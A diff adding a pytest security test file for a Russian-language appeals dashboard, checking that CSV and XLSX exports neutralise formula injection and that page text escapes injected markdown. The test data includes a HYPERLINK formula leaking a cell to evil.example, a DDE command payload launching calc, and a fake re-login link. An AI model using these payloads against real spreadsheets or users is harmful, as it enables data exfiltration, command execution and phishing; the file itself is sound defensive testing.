@@ -1,0 +1,118 @@
+"""Security as an attacker would try it: formulas in exports, markdown in texts and links, ids out
+of range, and (below) sessions, throttling, audit, uploads and workbooks."""
+import contextlib
+import csv
+import datetime as dt
+import io
+
+import openpyxl
+import pandas as pd
+import pytest
+from sqlalchemy import text
+
+from dashboard import fmt
+from dashboard.context import Context
+from dashboard.ui import to_csv, to_xlsx
+from queries.filters import Filters
+from queries.viewer import Viewer
+
+from .conftest import SMALL_AS_OF
+from .pagetools import run_page
+
+PARAMS = {"from": "2021-02-01", "to": "2021-03-31"}
+FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"жми\")", "+7 913 123-45-67", "-2+3", "@SUM(A1:A2)",
+            "\tтаб", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def _ctx() -> Context:
+    empty = pd.DataFrame({"id": [], "code": [], "name_ru": [], "name_en": []})
+    return Context("sqlite://", Filters(dt.date(2021, 2, 1), dt.date(2021, 3, 31)), "ru", SMALL_AS_OF,
+                   empty, empty, empty, {}, Viewer("a", "analyst"))
+
+
+def test_exported_cells_never_run_as_formulas():
+    df = pd.DataFrame({"Текст": FORMULAS, "Число": range(len(FORMULAS)), "=Заголовок": ["обычный"] * len(FORMULAS)})
+    rows = list(csv.reader(io.StringIO(to_csv(df).decode("utf-8-sig"), newline=""), delimiter=";"))
+    assert rows[0][2] == "'=Заголовок"
+    assert [r[0] for r in rows[1:]] == ["'" + v for v in FORMULAS]
+    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(FORMULAS))]  # numbers untouched
+    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(df, "Обращения", _ctx())))
+    sheet = book["data"]
+    wanted = {v.replace("\r", "\n") for v in FORMULAS}  # XML reads a carriage return back as a line feed
+    cells = [c for row in sheet.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.replace("\r", "\n") in wanted]
+    assert len(cells) == len(FORMULAS)
+    assert all(c.data_type == "s" for c in cells)
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+
+
+def test_command_line_export_guards_and_the_importer_restores(small_sqlite, tmp_path):
+    """seed.export writes the guard, the importer takes it off: a formula-like text round-trips as it was."""
+    import shutil
+    from pathlib import Path
+
+    from queries.db import make_engine
+    from seed.export import export_csv
+    from seed.importer import run_import
+    from seed.mapping import load_mapping
+    copy = tmp_path / "copy.sqlite"
+    shutil.copy(small_sqlite.url.database, copy)
+    engine = make_engine(f"sqlite:///{copy}")
+    with engine.begin() as c:
+        ids = [r[0] for r in c.execute(text("select id from appeals order by id limit 3"))]
+        for i, value in zip(ids, ["=1+1 и всё", "-сломан фонарь", "@администрация"]):
+            c.execute(text("update appeals set text = :t where id = :i"), {"t": value, "i": i})
+    out = tmp_path / "export.csv"
+    with engine.connect() as c, open(out, "w", encoding="utf-8", newline="") as fh:
+        export_csv(c, fh)
+    texts = [r["text"] for r in csv.DictReader(open(out, encoding="utf-8"))]
+    assert {"'=1+1 и всё", "'-сломан фонарь", "'@администрация"} <= set(texts)
+    target = make_engine(f"sqlite:///{tmp_path / 'back.sqlite'}")
+    run_import(target, out, load_mapping(Path(__file__).resolve().parent.parent / "seed" / "mappings" / "cur_export.toml"))
+    with engine.connect() as a, target.connect() as b:
+        before = dict(a.execute(text("select external_id, text from appeals")).all())
+        after = dict(b.execute(text("select external_id, text from appeals")).all())
+    assert before == after
+
+
+def _with_text(engine, appeal_id: int, value: str):
+    """Set one appeal's text for the test, restored afterwards (the small databases are shared)."""
+    @contextlib.contextmanager
+    def cm():
+        with engine.begin() as c:
+            old = c.execute(text("select text from appeals where id = :i"), {"i": appeal_id}).scalar_one()
+            c.execute(text("update appeals set text = :t where id = :i"), {"t": value, "i": appeal_id})
+        try:
+            yield
+        finally:
+            with engine.begin() as c:
+                c.execute(text("update appeals set text = :t where id = :i"), {"t": old, "i": appeal_id})
+    return cm()
+
+
+MARKDOWN_TEXT = ("# Заголовок\n![пиксель](http://127.0.0.1:9/pixel.png) [Войдите снова](https://evil.example) "
+                 "**жирный** $x^2$ <img src=x>")
+
+
+def test_appeal_text_and_url_parameters_show_as_plain_text(small_db):
+    url = small_db.url.render_as_string(hide_password=False)
+    with small_db.connect() as c:
+        appeal_id = c.execute(text("select min(id) from appeals")).scalar_one()
+    with _with_text(small_db, appeal_id, MARKDOWN_TEXT):
+        at = run_page(url, SMALL_AS_OF, "pages/cases.py", id=str(appeal_id), **PARAMS)
+        bodies = [m.value for m in at.markdown]
+        quoted = [b for b in bodies if "Заголовок" in b]
+        assert quoted == ["> " + fmt.plain(MARKDOWN_TEXT)]
+        assert "\\#" in quoted[0] and "\\!\\[" in quoted[0] and "\\]\\(" in quoted[0]
+    at = run_page(url, SMALL_AS_OF, territory="[Войдите снова](https://evil.example)", **PARAMS)
+    warnings = [w.value for w in at.warning]
+    assert any("\\[Войдите снова\\]\\(https\\:" in w for w in warnings), warnings
+    assert not any("[Войдите снова](" in w for w in warnings)
+
+
+@pytest.mark.parametrize("raw", ["99999999999999999999999", "9223372036854775808", "0"])
+def test_case_ids_out_of_range_are_not_found(small_db, raw):
+    url = small_db.url.render_as_string(hide_password=False)
+    at = run_page(url, SMALL_AS_OF, "pages/cases.py", id=raw, **PARAMS)
+    assert not at.exception
+    assert any("не найдено" in w.value for w in at.warning)
